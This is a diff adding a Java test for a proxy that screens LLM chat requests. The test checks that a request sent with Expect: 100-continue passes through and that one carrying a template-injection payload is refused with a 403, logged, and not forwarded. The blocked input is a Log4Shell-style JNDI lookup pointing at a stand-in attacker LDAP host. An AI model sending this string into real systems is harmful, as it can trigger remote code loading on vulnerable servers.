@@ -278,6 +278,31 @@ class RedFlagTest {
         assertThat(records("/v1/stream")).hasSize(1);
     }
 
+    @Test
+    void aRequestExpecting100ContinueIsNotHeldAndABlockMatchStillRefusesIt() throws Exception {
+        sluice = SluiceFixture.start(sluicePolicy("""
+                rules:
+                    - { id: template_injection, action: block }""").replace("{ redact: true }", "{ redact: false }"));
+        HttpClient client = HttpClient.newBuilder()
+                .proxy(ProxySelector.of(new InetSocketAddress("127.0.0.1", sluice.port())))
+                .sslContext(TrustOnly.of(sluice.dataDir().resolve("ca.crt.pem")))
+                .version(HttpClient.Version.HTTP_1_1).build();
+        HttpResponse<String> ok = client.send(HttpRequest.newBuilder(URI.create("https://" + HOST + ":"
+                        + origin.httpsPort() + "/v1/continue")).expectContinue(true)
+                .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString(chat("hello")))
+                .timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofString());
+        assertThat(ok.statusCode()).isEqualTo(200);
+        HttpResponse<String> refused = client.send(HttpRequest.newBuilder(URI.create("https://" + HOST + ":"
+                        + origin.httpsPort() + "/v1/continue-flagged")).expectContinue(true)
+                .header("Content-Type", "application/json")
+                .POST(HttpRequest.BodyPublishers.ofString(chat("x ${jndi:ldap://evil.example/a}")))
+                .timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofString());
+        assertThat(refused.statusCode()).isEqualTo(403);
+        assertThat(record("/v1/continue-flagged").path("reason").asText()).isEqualTo("red_flag");
+        assertThat(records("/v1/continue-flagged")).hasSize(1);
+        assertThat(origin.server().findAll(postRequestedFor(urlEqualTo("/v1/continue-flagged")))).isEmpty();
+    }
+
     private static String chat(String text) throws IOException {
         return JSON.writeValueAsString(Map.of("model", "claude-sonnet-4", "max_tokens", 10,
                 "messages", List.of(Map.of("role", "user", "content", text))));
